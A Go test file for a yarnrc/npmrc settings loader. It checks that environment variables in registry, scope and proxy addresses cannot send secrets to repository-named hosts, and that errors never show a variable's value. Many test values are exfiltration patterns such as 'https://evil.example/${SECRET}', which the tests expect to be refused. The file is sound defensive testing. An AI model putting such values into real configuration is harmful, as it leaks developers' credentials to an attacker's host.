package yarnrc

import (
	"path/filepath"
	"strings"
	"testing"
)

// TestVariablesInAddresses: a variable is sent as a credential, or names the
// host; nothing else of the environment reaches a host that only the repository
// names.
func TestVariablesInAddresses(t *testing.T) {
	env := []string{"SECRET=hunter22", "TOKEN=tok", "URL=https://own.example/npm", "HOST=own.example", "PROTO=https:", "EMPTY="}
	tests := []struct {
		name, server string
		url          string // "" for refused
	}{
		{"literal", "https://r.example/npm", "https://r.example/npm"},
		{"a whole address", "${URL}", "https://own.example/npm"},
		{"a default", "${NONE:-https://r.example/npm}", "https://r.example/npm"},
		{"a default instead of an empty one", "${EMPTY:-https://r.example/npm}", "https://r.example/npm"},
		{"a whole address, and more that is written", "${URL}/more", "https://own.example/npm/more"},
		{"a whole host", "https://${HOST}/npm", "https://own.example/npm"},
		{"user and password", "https://user:${SECRET}@r.example/npm", "https://r.example/npm"},
		{"the path", "https://evil.example/${SECRET}", ""},
		{"the query", "https://evil.example/?${SECRET}", ""},
		{"a part of the host", "https://${SECRET}.evil.example/", ""},
		{"behind a port", "https://evil.example:${SECRET}/", ""},
		{"behind an empty variable", "${EMPTY}https://evil.example/${SECRET}", ""},
		{"behind the protocol", "${PROTO}//evil.example/${SECRET}", ""},
		{"in a default", "${NONE:-https://evil.example/${SECRET}}", ""},
		{"a second variable behind the address", "${URL}/${SECRET}", ""},
		{"a second variable behind the host", "https://${HOST}/${SECRET}", ""},
		{"behind a backslash", `https://evil.example\\${SECRET}`, ""},
		{"not in an address", "${SECRET}", ""},
		{"through .env.yarn", "${INJECTED}", ""},
	}
	files := func(rc string) map[string]string {
		return map[string]string{"repo/.git/HEAD": "", "repo/.yarnrc.yml": rc, "repo/.env.yarn": "INJECTED=https://evil.example/${SECRET}\n"}
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for what, rc := range map[string]string{
				"npmRegistryServer": "npmRegistryServer: '" + tt.server + "'\n",
				"npmScopes":         "npmScopes:\n  s:\n    npmRegistryServer: '" + tt.server + "'\n",
			} {
				s, err := tryLoad(t, files(rc), env)
				if err != nil {
					t.Fatal(err)
				}
				ep := s.Endpoint("@s/x")
				switch {
				case tt.url == "" && (ep.Err() == nil || ep.URL != ""):
					t.Errorf("%s: asks %s", what, ep.URL)
				case tt.url != "" && (ep.Err() != nil || ep.URL != tt.url):
					t.Errorf("%s: asks %q: %v", what, ep.URL, ep.Err())
				}
				if err := ep.Err(); err != nil && strings.Contains(err.Error(), "hunter22") {
					t.Errorf("%s: the error shows it: %v", what, err)
				}
			}
			_, err := tryLoad(t, files("httpsProxy: '"+tt.server+"'\n"), env)
			if (err != nil) != (tt.url == "") {
				t.Errorf("as a proxy: %v", err)
			}
			npmrc := map[string]string{"repo/.git/HEAD": "", "repo/yarn.lock": classicLock, "repo/.npmrc": "registry=" + tt.server + "\n"}
			if strings.Contains(tt.server, "NONE") || strings.Contains(tt.server, "EMPTY:") || strings.Contains(tt.server, "INJECTED") || strings.Contains(tt.server, `\`) {
				return // npm has no defaults and no .env.yarn, and a backslash escapes
			}
			s, err := tryLoad(t, npmrc, env)
			if err != nil {
				t.Fatal(err)
			}
			if ep := s.Endpoint("x"); (ep.Err() != nil) != (tt.url == "") || ep.URL != tt.url {
				t.Errorf(".npmrc: asks %q: %v", ep.URL, ep.Err())
			}
		})
	}
}

// TestVariablesInTheUsersOwnSettings: what the user's own settings say is the
// user's; so is the host that they name.
func TestVariablesInTheUsersOwnSettings(t *testing.T) {
	repo := "npmRegistryServer: https://r.example/${TEAM}/npm\n"
	env := []string{"TEAM=portal", "TOKEN=tok"}
	for name, tt := range map[string]struct {
		files map[string]string
		env   []string
		ok    bool
	}{
		"only the repository":    {map[string]string{"repo/.yarnrc.yml": repo}, nil, false},
		"the home folder's file": {map[string]string{"home/.yarnrc.yml": repo}, nil, true},
		"a host that is known":   {map[string]string{"repo/.yarnrc.yml": repo, "home/.yarnrc.yml": "npmRegistries:\n  //r.example: {npmAuthToken: x}\n"}, nil, true},
		"another host is known":  {map[string]string{"repo/.yarnrc.yml": repo, "home/.yarnrc.yml": "npmRegistries:\n  //other.example: {npmAuthToken: x}\n"}, nil, false},
		"the environment's":      {map[string]string{"repo/.yarnrc.yml": "{}\n"}, []string{"YARN_NPM_REGISTRY_SERVER=https://r.example/${TEAM}/npm"}, true},
		"a host of a variable's": {map[string]string{"repo/.yarnrc.yml": "npmScopes:\n  s:\n    npmRegistryServer: https://r.example/${TEAM}/npm\n"}, []string{"YARN_NPM_REGISTRY_SERVER=https://r.example/"}, true},
	} {
		tt.files["repo/.git/HEAD"] = ""
		s, err := tryLoad(t, tt.files, append(tt.env, env...))
		if err != nil {
			t.Fatal(name, err)
		}
		if ep := s.Endpoint("@s/x"); (ep.Err() == nil) != tt.ok || tt.ok && ep.URL != "https://r.example/portal/npm" {
			t.Errorf("%s: %q %v", name, ep.URL, ep.Err())
		}
	}
}

// TestErrorsAreAsWritten: no error of the settings shows what a variable holds.
func TestErrorsAreAsWritten(t *testing.T) {
	for _, rc := range []string{
		"httpRetry: ${SECRET}\n", "enableScripts: ${SECRET}\n", "compressionLevel: ${SECRET}\n", "httpTimeout: ${SECRET}\n",
		"yarnPath: /nowhere/${SECRET}\n", "httpsCaFilePath: /nowhere/${SECRET}\n", "npmMinimalAgeGate: x${SECRET}\n",
		"networkSettings:\n  '*':\n    httpsCertFilePath: ${SECRET}\n", "httpProxy: http://evil.example/${SECRET}\n",
	} {
		_, err := tryLoad(t, map[string]string{"repo/.git/HEAD": "", "repo/.yarnrc.yml": rc}, []string{"SECRET=hunter22"})
		if err == nil || strings.Contains(err.Error(), "hunter22") {
			t.Errorf("%s%v", rc, err)
		}
	}
}

func tryLoad(t *testing.T, files map[string]string, env []string) (*Settings, error) {
	t.Helper()
	root := tree(t, files)
	return Load(filepath.Join(root, "repo"), environ(root, env...))
}
